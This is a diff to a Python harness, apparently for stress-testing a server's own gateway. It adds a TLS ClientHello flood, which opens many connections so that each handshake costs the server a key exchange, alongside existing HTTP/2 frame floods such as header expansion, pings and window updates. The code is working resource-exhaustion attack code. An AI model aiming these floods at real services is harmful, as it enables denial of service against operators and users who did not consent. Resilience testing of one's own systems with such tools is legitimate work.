@@ -3,6 +3,7 @@
 import json
 import select
 import socket
+import ssl
 import sys
 
 from . import orders
@@ -84,6 +85,18 @@ def window_updates(c: Encoder) -> bytes:
     return c.headers(1, ECHO) + window_update(1, 1) * 500
 
 
+def client_hello() -> bytes:
+    """What a client of TLS 1.3 says first. Answering it costs the other side a key exchange and a signature."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.set_alpn_protocols(["h2"])
+    sent = ssl.MemoryBIO()
+    try:
+        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="gate.test").do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return sent.read()
+
+
 def told(path: str, **do) -> list[tuple[str, str]]:
     return head(path, ("x-do", json.dumps(do)))
 
@@ -93,19 +106,36 @@ FLOODS = {function.__name__: function for function in (
     header_expansion, large_heads, many_fields, pings, settings, priorities, unknown_frames, empty_frames, window_updates)}
 
 
+def hellos(address: tuple[str, int]):
+    """Handshakes that their client has no use for."""
+    hello = client_hello()
+    opened = [socket.create_connection(address, timeout=2) for _ in range(20)]
+    for each in opened:
+        each.sendall(hello)
+    for each in opened:
+        # Its answer has come: the work was done.
+        each.recv(1)
+        each.close()
+
+
+def attack(address: tuple[str, int], flood: bytes):
+    with socket.create_connection(address, timeout=2) as attacker:
+        attacker.sendall(flood)
+        while attacker.recv(1 << 16):
+            pass
+
+
 def main(target: str, name: str):
     """One attack after the other, at most a hundred a second, as a process of its own, until its input ends."""
     host, port = target.rsplit(":", 1)
-    flood = PREFACE + setting() + frame(SETTINGS, ACK, 0) + FLOODS[name](Encoder())
+    address = host, int(port)
+    flood = PREFACE + setting() + frame(SETTINGS, ACK, 0) + FLOODS[name](Encoder()) if name in FLOODS else None
     print("ready", flush=True)
     while not select.select([sys.stdin], [], [], 0.01)[0]:
-        with socket.create_connection((host, int(port)), timeout=2) as attack:
-            try:
-                attack.sendall(flood)
-                while attack.recv(1 << 16):
-                    pass
-            except OSError:
-                pass
+        try:
+            attack(address, flood) if flood else hellos(address)
+        except OSError:
+            pass
 
 
 if __name__ == "__main__":
